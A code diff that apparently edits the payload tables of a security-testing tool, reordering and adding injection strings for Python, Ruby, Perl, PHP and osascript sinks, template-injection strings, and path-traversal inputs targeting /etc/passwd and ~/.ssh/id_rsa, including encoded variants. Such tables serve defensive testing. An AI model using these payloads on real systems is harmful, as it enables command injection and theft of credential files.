@@ -24,9 +24,9 @@ const LOOPBACK = ["127.0.0.1"] as const;
 
 /** Hostile program texts in the languages of other programs than JavaScript's, by what the program is called. */
 export const CODE_ATTACKS: readonly { readonly program: RegExp; readonly attacks: readonly Attack[] }[] = [
-  { program: /\b(?:python|pypy)[\d.]*\b/, attacks: all("{};exit()", "{}');__import__('os').system('id');('", "{}'+str(__import__('os').system('id'))+'", '{}"+str(__import__("os").system("id"))+"', '{}");__import__("os").system("id");("', "exit()") },
+  { program: /\b(?:python|pypy)[\d.]*\b/, attacks: all("exit()", "os;os.abort()", "{};exit()", "{}');__import__('os').system('id');('", "{}'+str(__import__('os').system('id'))+'", '{}"+str(__import__("os").system("id"))+"', '{}");__import__("os").system("id");("') },
   { program: /\bosascript\b/, attacks: all('{}" & (do shell script "id") & "', '{}\\" & (do shell script "id") & "', '{}\\" & (system info) --', 'do shell script "id"') },
-  { program: /\b(?:ruby|perl|php)\b/, attacks: all("{};exit()", "{}';system('id');'", '{}";system("id");"', "{}');system('id');('", '{}");system("id");("', "#{system('id')}", "@{[system('id')]}", "exit()") },
+  { program: /\b(?:ruby|perl|php)\b/, attacks: all("exit()", "{};exit()", "{}';system('id');'", '{}";system("id");"', "{}');system('id');('", '{}");system("id");("', "#{system('id')}", "@{[system('id')]}") },
 ];
 
 /** Hostile texts of each kind of sink, the likeliest first. */
@@ -46,7 +46,7 @@ export const ATTACKS: Readonly<Partial<Record<SinkKind, readonly Attack[]>>> = {
   template: all("{{constructor.constructor('return process')()}}", "<%= process.exit() %>", "${process.exit()}", "#{process.exit()}"),
   script: all("{};return true", "{}'||'1'=='1", '{}"||"1"=="1', "function(){return true}"),
   module: all("/tmp/evil.js", "../../../../tmp/evil.js", "{}/../../../../tmp/evil.js"),
-  path: [...all("../../../../../../../../etc/passwd", "/etc/passwd", "../../../../../../../../tmp/evil", "/tmp/evil"), { text: "~/.ssh/id_rsa", also: ["id_rsa"] }, ...all(
+  path: [...all("../../../../../../../../etc/passwd", "/etc/passwd", "../../../../../../../../tmp/evil", "/tmp/evil", "../../../../../../../../tmp/evil/file"), { text: "~/.ssh/id_rsa", also: ["id_rsa"] }, ...all(
     "{}/../../../../../../../../etc/passwd", "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
     "....//....//....//....//....//....//etc/passwd", "..\\..\\..\\..\\..\\etc\\passwd"), { text: "..", fades: true }, ...all("file:///etc/passwd", "//etc/passwd", "/etc/passwd\0{}",
     // what is taken out behind a check joins what stood round it
